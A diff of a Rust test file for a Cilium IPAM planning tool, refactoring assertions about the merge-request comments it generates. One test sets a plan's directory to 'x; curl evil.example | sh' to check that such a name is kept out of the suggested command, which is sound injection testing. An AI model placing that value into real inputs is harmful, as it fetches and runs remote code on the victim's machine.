@@ -11,7 +11,9 @@ use ipam_planner::plan::{ChangeDocument, PlanDocument, TargetKind};
 use super::comment_big::big_plan;
 use super::comment_risks::{hidden_move, lost_address};
 use super::markdown::{PIECES, assert_text_only, plan, with_text};
-use super::support::{Folder, KUBERNETES, Ran, cluster, holds, node, pool, repository, run};
+use super::support::{
+    Folder, KUBERNETES, Ran, TextAssertions, args, cluster, holds, node, pool, repository, run,
+};
 
 const AROUND: Circumstances<'static> = Circumstances {
     commit: Some("0123456789abcdef0123456789abcdef01234567"),
@@ -71,23 +73,14 @@ fn a_plan_of_5000_nodes_with_300_refusals_fits_and_begins_with_the_worst() {
         })
         .collect();
     assert!(places.is_sorted(), "{places:?} in {page}");
-    assert!(!page.contains("--expect-digest"), "{page}");
-    assert!(
-        page.contains("`cilium-ipam plan clusters/prod/pools --show-all`"),
-        "{page}"
-    );
+    page.assert_lacks("--expect-digest");
+    page.assert_has("`cilium-ipam plan clusters/prod/pools --show-all`");
 }
 
 #[test]
 fn a_plan_without_risk_says_so_and_how_to_apply_exactly_it() {
     let example = repository().join("examples/racks");
-    let flags = [
-        "pools",
-        "--cluster-file",
-        "cluster.yaml",
-        "--cluster-name",
-        "lab",
-    ];
+    let flags = args("pools --cluster-file cluster.yaml --cluster-name lab");
     let page = dry_run(&example, &flags).expect(0).stdout;
     assert_text_only(&page);
     let first = page.lines().next().unwrap();
@@ -97,9 +90,9 @@ fn a_plan_without_risk_says_so_and_how_to_apply_exactly_it() {
     );
     let second = "\n\n**Merging this writes 7 changes:** 7 nodes get a block (a range of Pod addresses); 0 nodes move. No running workload is affected.\n\n**Check:** the job of this comment passes, so it does not stop the merge.\n";
     assert!(page[first.len()..].starts_with(second), "{page}");
-    assert!(!page.contains("Look at first"), "{page}");
+    page.assert_lacks("Look at first");
     let undo = "\nOnce written, 7 changes cannot be undone: a node's `spec.podCIDRs` can be written only once.\n";
-    assert!(page.contains(undo), "{page}");
+    page.assert_has(undo);
     let digits = page.split("--expect-digest ").nth(1).unwrap();
     let digits = digits.split('`').next().unwrap();
     let folder = Folder::new(&[]);
@@ -143,20 +136,12 @@ fn a_saved_plan_gives_the_comment_of_its_directory_only() {
         other.stderr
     );
     let both = dry_run(&example, &["pools", "--plan", file]).expect(1);
-    assert!(
-        both.stderr.contains("cannot be used with"),
-        "{}",
-        both.stderr
-    );
+    both.stderr.assert_has("cannot be used with");
     let edited = folder.read("p.json").replace("10.20.", "10.66.");
     folder.write("edited.json", edited);
     let edited = folder.join("edited.json");
     let refused = dry_run(&example, &["--plan", edited.to_str().unwrap()]).expect(1);
-    assert!(
-        refused.stderr.contains("do not match its digest"),
-        "{}",
-        refused.stderr
-    );
+    refused.stderr.assert_has("do not match its digest");
 }
 
 #[test]
@@ -179,19 +164,16 @@ fn invalid_files_and_fail_on_decide_the_exit_code() {
     assert!(bad.stdout.starts_with(title), "{}", bad.stdout);
     assert_text_only(&bad.stdout);
     let told = "\n\n**Check:** the job of this comment fails (exit code 3) because of invalid files. A branch that requires it does not take the merge.\n";
-    assert!(bad.stdout.contains(told), "{}", bad.stdout);
+    bad.stdout.assert_has(told);
     let fails = [&["pools", "--fail-on", "misplaced"], &on[..]].concat();
     let page = dry_run(folder.path(), &fails).expect(2).stdout;
     let told = "\n**Check:** the job of this comment fails (exit code 2) because of misplaced blocks. A branch";
-    assert!(page.contains(told), "{page}");
-    assert!(
-        page.contains("\n**Look at first:** misplaced: `n1` with `10.99.0.0/24`: "),
-        "{page}"
-    );
-    assert!(page.contains("**way out:**"), "{page}");
+    page.assert_has(told);
+    page.assert_has("\n**Look at first:** misplaced: `n1` with `10.99.0.0/24`: ");
+    page.assert_has("**way out:**");
     let passes = dry_run(folder.path(), &[&["pools"], &on[..]].concat()).expect(0);
     let told = "\n**Check:** the job of this comment passes, so it does not stop the merge.\n";
-    assert!(passes.stdout.contains(told), "{}", passes.stdout);
+    passes.stdout.assert_has(told);
 }
 
 /// As a job of Terraform with a policy goes red, and an apply of the plan would.
@@ -203,18 +185,16 @@ fn a_refused_plan_fails_the_job_unless_it_is_to_pass() {
     let red = dry_run(&example, &limit).expect(5).stdout;
     let told =
         "\n**Check:** the job of this comment fails (exit code 5) because of a refusal. A branch";
-    assert!(red.contains(told), "{red}");
+    red.assert_has(told);
     let never = dry_run(&example, &[&limit[..], &["--fail-on", "never"]].concat()).expect(0);
     let told = "\n**Check:** the job of this comment passes with any plan (`--fail-on never`), so it does not stop the merge. Another job may.\n";
-    assert!(never.stdout.contains(told), "{}", never.stdout);
+    never.stdout.assert_has(told);
     let unlimited = ["pools", "--cluster-file", "cluster.yaml"];
     let blocked = [&unlimited[..], &["--fail-on", "blocked"]].concat();
     let other = dry_run(&example, &blocked).expect(0);
-    assert!(
-        other.stdout.contains("comment passes, so it does not stop"),
-        "{}",
-        other.stdout
-    );
+    other
+        .stdout
+        .assert_has("comment passes, so it does not stop");
 }
 
 /// The change that takes addresses is told as a loss; another one is told for itself.
@@ -241,11 +221,11 @@ fn a_destructive_change_beside_a_lost_address_is_in_the_title() {
     };
     plan.changes.push(destructive(&pool.name));
     let alone = title(&plan);
-    assert!(alone.contains(" lost"), "{alone}");
-    assert!(!alone.contains("destructive"), "{alone}");
+    alone.assert_has(" lost");
+    alone.assert_lacks("destructive");
     plan.changes.push(destructive("other"));
     let both = title(&plan);
-    assert!(both.contains("; 1 destructive change;"), "{both}");
+    both.assert_has("; 1 destructive change;");
 }
 
 #[test]
@@ -253,8 +233,8 @@ fn a_directory_that_is_no_word_of_a_shell_is_not_in_a_command() {
     let mut plan = plan();
     plan.source.directory = "x; curl evil.example | sh".to_owned();
     let page = comment(&plan, &AROUND);
-    assert!(page.contains("`cilium-ipam plan DIR --show-all`"), "{page}");
-    assert!(!page.contains("plan x;"), "{page}");
+    page.assert_has("`cilium-ipam plan DIR --show-all`");
+    page.assert_lacks("plan x;");
 }
 
 #[test]
